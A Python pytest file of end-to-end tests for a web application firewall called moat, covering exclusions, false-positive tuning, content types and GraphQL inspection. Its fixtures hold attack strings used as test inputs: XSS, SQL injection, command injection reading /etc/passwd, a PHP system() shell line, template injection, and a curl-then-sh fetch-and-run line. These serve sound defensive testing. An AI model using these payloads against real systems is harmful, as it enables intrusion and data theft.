"""WAF defaults for ordinary traffic and the way out of a false positive,
end to end (real moat, the Flask echo app under gunicorn), issue 14:

- the WAF sees the headers as the client sent them: Transfer-Encoding (no
  920180 on chunked bodies), Connection and the headers it names,
  underscored names; what reaches the app is stripped as before;
- Referer is not read at paranoia 1 (the URL itself is);
- the body types of REST APIs and raw uploads pass 920420 (waf.content_types);
- waf.exclude routes in the [[auth.rules]] glob dialect, rule ids, tags and
  targets; invalid entries fail `config check`;
- `moat log why` prints the narrowest exclusion, `moat waf tune` proposes
  them from a detect-mode log, and the proposals let the traffic through;
- waf.rule_sets puts back the rules moat leaves out.

One moat per config, no sleeps."""

import json
import re
import subprocess

import requests

from helpers import Conn

XSS = "<script>alert(1)</script>"
SQLI = "1' UNION SELECT password FROM users --"


def events(m, name=None):
    out = []
    for line in m.stdout.text.splitlines():
        if line.startswith("{"):
            ev = json.loads(line)
            if ev.get("event", "").startswith("waf.") and (name is None or ev["event"] == name):
                out.append(ev)
    return out


def wait_events(m, pattern, name=None, timeout=15):
    """The security log is written by its own thread: waits (bounded) for a
    line matching pattern, then returns the waf.* events."""
    assert m.stdout.wait_for(pattern, timeout), "no security log line matching " + pattern
    return events(m, name)


def raw(m, text):
    with Conn(m.port) as c:
        c.send(text.replace("\n", "\r\n"))
        return c.read_response()


# ------------------------------------------------------- headers as sent

def test_chunked_body_is_not_an_anomaly(moat, echo):
    # threshold 3: the +3 920180 gave every chunked POST would block it
    m = moat(echo.url(), waf={"inbound_threshold": 3})
    body = b'{"title": "hello", "n": 1}'
    r = requests.post(m.url + "/echo/api", data=iter([body]),
                      headers={"Content-Type": "application/json"})
    assert r.status_code == 200, events(m)
    assert r.json()["body_len"] == len(body)
    # an attack in a chunked body is still refused
    r = requests.post(m.url + "/echo/api", data=iter([json.dumps({"q": SQLI}).encode()]),
                      headers={"Content-Type": "application/json"})
    assert r.status_code == 403


def test_hop_by_hop_and_underscored_headers_inspected_then_stripped(moat, echo):
    m = moat(echo.url())
    # an attack in a header the Connection header names, and in an underscored
    # header: both are inspected before they are removed
    r = raw(m, "GET /echo/a HTTP/1.1\nHost: x\nConnection: keep-alive, X-Cmd\n"
               "X-Cmd: x; cat /etc/passwd\n\n")
    assert r.status == 403
    r = raw(m, "GET /echo/b HTTP/1.1\nHost: x\nX_Cmd: x; cat /etc/passwd\n\n")
    assert r.status == 403
    # 920210: conflicting Connection values (warning, +3): seen at threshold 3
    m3 = moat(echo.url(), waf={"inbound_threshold": 3})
    r = raw(m3, "GET /echo/c HTTP/1.1\nHost: x\nConnection: keep-alive, close\n\n")
    assert r.status == 403
    assert any("920210" in (e.get("rule") or "")
               for e in wait_events(m3, r'"rule":"[^"]*920210', "waf.blocked"))
    # benign: passes, and the app sees none of the stripped headers
    r = raw(m, "GET /echo/d HTTP/1.1\nHost: x\nConnection: X-Named\nX-Named: 1\n"
               "Keep-Alive: timeout=5\nX_Custom: 1\nX-Kept: 2\n\n")
    assert r.status == 200
    seen = {k.lower() for k, _ in r.json()["headers"]}
    assert "x-kept" in seen
    assert not seen & {"x-named", "keep-alive", "x_custom", "x-custom"}


# ---------------------------------------------------------------- Referer

def test_referer_alone_does_not_block_at_paranoia_1(moat, echo):
    m = moat(echo.url())
    s = requests.Session()
    attack_url = m.url + "/echo/search?q=" + requests.utils.quote(XSS)
    # the URL itself is refused ...
    assert s.get(attack_url).status_code == 403
    # ... the next page, which carries it in Referer, is not
    for ref in (attack_url, m.url + "/echo?q=" + requests.utils.quote(SQLI),
                m.url + "/echo/../../etc/passwd"):
        r = s.get(m.url + "/echo/next", headers={"Referer": ref})
        assert r.status_code == 200, (ref, events(m))
    # other headers are still read
    assert s.get(m.url + "/echo/next", headers={"User-Agent": XSS}).status_code == 403
    s.close()
    # paranoia 2 reads Referer again (941101)
    m2 = moat(echo.url(), waf={"paranoia": 2})
    assert requests.get(m2.url + "/echo/next", headers={"Referer": attack_url}).status_code == 403


# ---------------------------------------------------------- content types

def test_rest_and_upload_content_types_pass(moat, echo):
    m = moat(echo.url())
    s = requests.Session()
    ok = [
        ("PATCH", "application/json-patch+json", b'[{"op": "replace", "path": "/a", "value": 1}]'),
        ("PATCH", "application/merge-patch+json", b'{"title": "new"}'),
        ("POST", "application/graphql", b"query { posts(first: 2) { title } }"),
        ("POST", "application/vnd.api+json", b'{"data": {"type": "posts"}}'),
        ("POST", "text/plain; charset=utf-8", b"just some text"),
        ("POST", "text/csv", b"a,b\n1,2\n"),
        ("PUT", "image/png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8),
        ("PUT", "application/zip", b"PK\x03\x04" + bytes(range(256)) * 8),
        ("PUT", "application/octet-stream", bytes(range(256)) * 8),
    ]
    for method, ctype, body in ok:
        r = s.request(method, m.url + "/echo/res/1", data=body, headers={"Content-Type": ctype})
        assert r.status_code == 200, (ctype, events(m))
        assert r.json()["body_len"] == len(body)
    # a type nobody listed is still refused (920420), and so is an attack in a text body
    r = s.post(m.url + "/echo/res/1", data=b"x", headers={"Content-Type": "application/x-evil"})
    assert r.status_code == 403
    assert wait_events(m, r'"rule":"[^"]*920420', "waf.blocked")
    s.close()
    # the setting replaces the list
    m2 = moat(echo.url(), waf={"content_types": ["application/json"]})
    r = requests.post(m2.url + "/echo/x", data=b"a,b", headers={"Content-Type": "text/csv"})
    assert r.status_code == 403


# ------------------------------------------------------------- exclusions

def test_exclude_routes_rules_tags_and_targets(moat, echo):
    m = moat(echo.url(), waf={"exclude": [
        "/echo/*/update body",
        "/echo/notes 941100 941110 941160 ARGS:text",
        "/echo/shell attack-rce",
    ]})
    s = requests.Session()
    # the glob of [[auth.rules]]: '*' is one segment
    assert s.post(m.url + "/echo/posts/update", data={"body": XSS}).status_code == 200
    assert s.post(m.url + "/echo/posts/update", json={"body": XSS}).status_code == 200
    assert s.post(m.url + "/echo/posts/update", data={"title": XSS}).status_code == 403
    assert s.post(m.url + "/echo/a/b/update", data={"body": XSS}).status_code == 403
    assert s.post(m.url + "/echo/posts/updates", data={"body": XSS}).status_code == 403
    # rule ids on a target: only those rules stop reading it
    assert s.post(m.url + "/echo/notes/3", data={"text": XSS}).status_code == 200
    assert s.post(m.url + "/echo/notes/3", data={"text": SQLI}).status_code == 403
    assert s.post(m.url + "/echo/notes/3", data={"other": XSS}).status_code == 403
    # a tag: the command-injection rules on that route
    assert s.post(m.url + "/echo/shell", data={"cmd": "make; ls -la /home"}).status_code == 200
    assert s.post(m.url + "/echo/shell", data={"cmd": XSS}).status_code == 403
    assert s.post(m.url + "/echo/other", data={"cmd": "make; ls -la /home"}).status_code == 403
    s.close()


def test_config_check_refuses_exclusions_that_never_match(moat_bin, tmp_path):
    bad = {
        '"/x FOO:y"': "target",
        '"/x 949110"': "turns the WAF off",
        '"/x attack-generic"': "blocking evaluation",
        '"/x y;z"': "rule id",
        '"x"': "starting with '/'",
        '"/a$b"': "'\\$' may only end",
    }
    for entry, want in bad.items():
        cfg = tmp_path / "moat.toml"
        cfg.write_text("[waf]\nexclude = [%s]\n" % entry)
        r = subprocess.run([moat_bin, "config", "check", str(cfg)], capture_output=True,
                           text=True)
        assert r.returncode != 0, entry
        assert re.search(r"moat.toml:2:\d+", r.stderr + r.stdout), r.stderr
        assert re.search(want, r.stderr + r.stdout), (entry, r.stderr)
    cfg = tmp_path / "moat.toml"
    cfg.write_text('[waf]\nexclude = ["/*/update 932100 ARGS:body", "/api/** attack-sqli", '
                   '"/cms/ body"]\nrule_sets = ["php", "932150"]\n')
    r = subprocess.run([moat_bin, "config", "check", str(cfg)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    cfg.write_text('[waf]\nrule_sets = ["all"]\n')
    r = subprocess.run([moat_bin, "config", "check", str(cfg)], capture_output=True, text=True)
    assert r.returncode != 0


# ------------------------------------------------ log why, waf tune

def test_log_why_prints_the_narrowest_fix_and_it_works(moat, echo, moat_bin, tmp_path):
    log = tmp_path / "security.log"
    m = moat(echo.url(), log={"security": str(log)})
    tip = 'Run it with os.system("ls -l") and read the output'
    r = requests.post(m.url + "/echo/posts/42/update", data={"snippet": tip, "title": "tips"})
    assert r.status_code == 403
    rid = r.json()["request_id"] if r.headers.get("Content-Type", "").startswith(
        "application/json") else re.search(r"[A-Za-z0-9_-]{22}", r.text).group(0)
    out = subprocess.run([moat_bin, "log", "why", rid, "--file", str(log)], capture_output=True,
                         text=True)
    assert out.returncode == 0, out.stderr
    assert "narrowest fix" in out.stdout
    snippet = re.search(r"exclude = \[(.*)\]", out.stdout).group(1)
    entries = json.loads("[" + snippet + "]")
    assert entries and all(e.startswith("/echo/posts/*/update ") for e in entries), entries
    assert any("ARGS:snippet" in e for e in entries), entries
    # every rule is one waf.text_fields switches off: that fix is offered too
    tf = re.search(r"text_fields = (\[.*\])", out.stdout)
    assert tf, out.stdout
    names = json.loads(tf.group(1))
    assert names[0] == "body" and names[-1] == "snippet", names
    m3 = moat(echo.url(), waf={"text_fields": names})
    assert requests.post(m3.url + "/echo/posts/7/update",
                         data={"snippet": tip, "title": "tips"}).status_code == 200
    assert requests.post(m3.url + "/echo/posts/7/update",
                         data={"snippet": SQLI}).status_code == 403
    # pasted: the same request passes, the parameter elsewhere or another one does not
    m2 = moat(echo.url(), waf={"exclude": entries})
    assert requests.post(m2.url + "/echo/posts/7/update",
                         data={"snippet": tip, "title": "tips"}).status_code == 200
    assert requests.post(m2.url + "/echo/posts/7/update",
                         data={"snippet": "x", "title": tip}).status_code == 403
    assert requests.post(m2.url + "/echo/posts/7/delete", data={"snippet": tip}).status_code == 403
    assert requests.post(m2.url + "/echo/posts/7/update",
                         data={"snippet": SQLI}).status_code == 403


def test_log_why_over_inspect_bytes_is_not_an_attack(moat, echo, moat_bin, tmp_path):
    log = tmp_path / "security.log"
    m = moat(echo.url(), log={"security": str(log)}, waf={"inspect_bytes": "4KiB"})
    # (a JSON body: raw file types stream past the window, waf.stream_types)
    r = requests.post(m.url + "/echo/up", data=b"a" * 10000,
                      headers={"Content-Type": "application/json",
                               "Accept": "application/json"})
    assert r.status_code == 413
    rid = r.json()["request_id"]
    out = subprocess.run([moat_bin, "log", "why", rid, "--file", str(log)], capture_output=True,
                         text=True)
    assert out.returncode == 0
    assert "attack pattern" not in out.stdout
    assert "larger than waf.inspect_bytes" in out.stdout
    assert "inspect_bytes = " in out.stdout


def test_waf_tune_proposes_exclusions_from_a_detect_log(moat, echo, moat_bin, tmp_path):
    log = tmp_path / "security.log"
    m = moat(echo.url(), log={"security": str(log)}, waf={"mode": "detect"})
    s = requests.Session()
    posts = ['A tip: os.system("ls -l")', "curl -s https://x.example/i.sh; sh i.sh",
             "Use <script>alert(1)</script> to test"]
    for i, body in enumerate(posts * 2):
        assert s.post(m.url + "/echo/posts/%d/update" % (i + 1),
                      data={"snippet": body}).status_code == 200
    assert s.get(m.url + "/echo/search", params={"q": SQLI}).status_code == 200
    s.close()
    m.stop()
    out = subprocess.run([moat_bin, "waf", "tune", str(log)], capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    assert re.search(r"\d+ WAF events, [1-9]\d* proposed exclusions", out.stdout), out.stdout
    toml_part = out.stdout[out.stdout.index("[waf]"):]
    entries = re.findall(r'^    ("[^\n]*"),$', toml_part, re.M)
    entries = [json.loads(e) for e in entries]
    posts_entries = [e for e in entries if e.startswith("/echo/posts/*/update ")]
    assert posts_entries and all("ARGS:snippet" in e for e in posts_entries), out.stdout
    assert re.search(r"# [2-9]\d* requests, e.g. POST /echo/posts/", out.stdout), out.stdout
    # the shell and Python posts matched only rules text fields switch off:
    # the text_fields alternative names the parameter (commented out)
    tf = re.search(r"^#   text_fields = (\[.*\])$", out.stdout, re.M)
    assert tf and json.loads(tf.group(1))[-1] == "snippet", out.stdout
    assert json.loads(tf.group(1))[0] == "body"
    assert any(e.startswith("/echo/search$ ") and "ARGS:q" in e for e in entries), out.stdout
    # narrowest first: every entry names a target before any that does not
    has_target = [":" in e.split(" ")[-1] for e in entries]
    assert has_target == sorted(has_target, reverse=True)
    # the proposals, applied in block mode, let the same traffic through
    m2 = moat(echo.url(), waf={"exclude": posts_entries})
    for i, body in enumerate(posts):
        assert requests.post(m2.url + "/echo/posts/%d/update" % (i + 1),
                             data={"snippet": body}).status_code == 200
    assert requests.post(m2.url + "/echo/posts/1/update",
                         data={"title": posts[2]}).status_code == 403
    r = subprocess.run([moat_bin, "waf", "tune", str(tmp_path / "missing.log")],
                       capture_output=True, text=True)
    assert r.returncode == 2


# -------------------------------------------------------------- rule sets

def test_rule_sets_put_back_left_out_rules(moat, echo):
    php = "<?php system($_GET['c']); ?>"
    m = moat(echo.url())
    assert requests.get(m.url + "/echo", params={"q": "python 3.12 release"}).status_code == 200
    m2 = moat(echo.url(), waf={"rule_sets": ["php", "932150", "920350"], "inbound_threshold": 3})
    r = requests.get(m2.url + "/echo", params={"q": php})
    assert r.status_code == 403
    assert wait_events(m2, r'"rule":"(?:[^"]*,)?933', "waf.blocked")
    # 920350: a numeric Host (a warning, +3: seen at threshold 3)
    r = raw(m2, "GET /echo HTTP/1.1\nHost: 127.0.0.1\n\n")
    assert r.status == 403
    m3 = moat(echo.url(), waf={"inbound_threshold": 3})
    r = raw(m3, "GET /echo HTTP/1.1\nHost: 127.0.0.1\n\n")
    assert r.status == 200


# ---------------------------------------------------------------- GraphQL

def test_graphql_selection_syntax_passes_string_arguments_inspected(moat, echo):
    m = moat(echo.url())
    s = requests.Session()
    queries = [
        "query GetUser($id: ID!) {\n  user(id: $id) {\n    id\n    name\n    email\n  }\n}",
        "query { posts(first: 5) { edges { node { id title author { name } } } } }",
        "fragment F on Post { id title createdAt }\nquery { latest: posts(last: 5) { ...F } }",
        "query S($q: String!) { search(query: $q) { ... on Post { id title } } }",
    ]
    for q in queries:
        r = s.post(m.url + "/echo/api/graphql", json={"query": q, "variables": {"id": "42"}})
        assert r.status_code == 200, (q, events(m))
        r = s.get(m.url + "/echo/graphql", params={"query": q})
        assert r.status_code == 200, (q, events(m))
    # attacks in string arguments of the query, and in variables: still refused
    attacks = [
        {"query": '{ user(name: "1\' UNION SELECT password FROM users --") { id } }'},
        {"query": '{ ping(host: "x; cat /etc/passwd") { ok } }'},
        {"query": '{ post(body: "<script>alert(1)</script>") { id } }'},
        {"query": "query($n: String) { user(name: $n) { id } }",
         "variables": {"n": "x; cat /etc/passwd"}},
        {"query": "query($n: String) { user(name: $n) { id } }",
         "variables": {"n": "{{ config.items() }}"}},
    ]
    for a in attacks:
        assert s.post(m.url + "/echo/graphql", json=a).status_code == 403, a
    # elsewhere, or with waf.graphql = [], the selection syntax is read as before
    assert s.post(m.url + "/echo/api/other", json={"query": queries[1]}).status_code == 403
    s.close()
    m2 = moat(echo.url(), waf={"graphql": []})
    assert requests.post(m2.url + "/echo/graphql",
                         json={"query": queries[1]}).status_code == 403


def test_graphql_bodies_are_inspected(moat, echo):
    """application/graphql has no body processor: moat runs libinjection
    over the raw document (otherwise accepting the type would pass it
    uninspected by the parameter rules)."""
    m = moat(echo.url())
    s = requests.Session()
    h = {"Content-Type": "application/graphql"}
    for q in ["query { posts(first: 5) { edges { node { id title author { name } } } } }",
              "{ me { name email } }",
              "mutation { deletePost(id: 7) { ok } }",
              'query { search(q: "O\'Reilly books") { ... on Book { id title } } }',
              "fragment F on Post { id title }\nquery { latest: posts(last: 5) { ...F } }"]:
        r = s.post(m.url + "/echo/graphql", data=q.encode(), headers=h)
        assert r.status_code == 200, (q, events(m))
    for q in ['{ user(name: "1\' UNION SELECT password FROM users --") { id } }',
              '{ post(body: "<script>alert(1)</script>") { id } }']:
        r = s.post(m.url + "/echo/graphql", data=q.encode(), headers=h)
        assert r.status_code == 403, q
    assert wait_events(m, r'"rule":"[^"]*190130[01]', "waf.blocked")
    s.close()
